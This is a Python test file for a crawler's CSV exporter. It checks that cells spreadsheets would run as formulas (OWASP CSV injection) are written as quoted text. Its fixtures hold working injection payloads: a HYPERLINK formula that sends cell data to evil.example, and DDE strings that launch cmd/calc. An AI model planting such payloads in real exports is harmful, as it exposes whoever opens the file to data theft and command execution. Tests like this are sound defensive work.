"""CSV exports never carry a cell a spreadsheet would run as a formula (OWASP's CSV injection)."""

from __future__ import annotations

import csv
import io
from pathlib import Path

from scrapy.utils.misc import load_object
from scrapy.utils.project import get_project_settings

from crawler.commands._feeds import merge_parts, part_uri
from pipelines.items import EXPORT_FIELDS, Hit

HYPERLINK = '=HYPERLINK("https://evil.example/?"&A1,"Watch now")'
DDE = '+cmd|" /C calc"!A0'


def _hostile_hit() -> Hit:
    return Hit(
        url="https://blog.example/post/1",
        platform="tumblr",
        blog="@attacker",
        title=HYPERLINK,
        text=DDE,
        tags=["-2+3", "hd"],
        reasons=["@SUM(1+1)*cmd|' /C calc'!A0", "sign-in form"],
        matched_title="\t=1+1",
        score=87,
        verdict="lure",
    )


def _export(hit: Hit) -> list[dict[str, str]]:
    """Run the project's CSV exporter (as ``-O hits.csv`` picks it) and parse what it wrote."""
    exporter_cls = load_object(get_project_settings().getwithbase("FEED_EXPORTERS")["csv"])
    out = io.BytesIO()
    exporter = exporter_cls(out, fields_to_export=EXPORT_FIELDS)
    exporter.start_exporting()
    exporter.export_item(hit)
    exporter.finish_exporting()
    return list(csv.DictReader(io.StringIO(out.getvalue().decode("utf-8"))))


def test_formula_cells_are_written_as_text() -> None:
    [row] = _export(_hostile_hit())
    assert row["title"] == "'" + HYPERLINK
    assert row["text"] == "'" + DDE
    assert row["blog"] == "'@attacker"
    assert row["reasons"] == "'@SUM(1+1)*cmd|' /C calc'!A0,sign-in form"  # the joined cell
    assert row["tags"] == "'-2+3,hd"
    assert row["matched_title"] == "'\t=1+1"
    assert not [name for name, cell in row.items() if cell[:1] in ("=", "+", "-", "@", "\t", "\r")]


def test_ordinary_cells_are_unchanged() -> None:
    hit = Hit(url="https://blog.example/post/2", platform="wordpress", title="Man of Steel (2013)")
    hit.score = 0
    [row] = _export(hit)
    assert row["title"] == "Man of Steel (2013)"
    assert row["url"] == "https://blog.example/post/2"
    assert row["score"] == "0"  # numbers stay numbers


def test_merged_csv_of_several_spiders_stays_neutralised(tmp_path: Path) -> None:
    """``lurewatch crawl -O hits.csv`` merges part files; an older target's rows are defused."""
    target = tmp_path / "hits.csv"
    target.write_text(f'title,score\n"{HYPERLINK.replace(chr(34), chr(34) * 2)}",1\n', "utf-8")
    part = Path(part_uri(str(target)) % {"name": "tumblr"})
    part.write_text("title,score\n'-1 day,2\n", encoding="utf-8")
    assert merge_parts(str(target), {"format": "csv"}, ["tumblr"]) == 2
    rows = list(csv.DictReader(io.StringIO(target.read_text(encoding="utf-8"))))
    assert [r["title"] for r in rows] == ["'" + HYPERLINK, "'-1 day"]
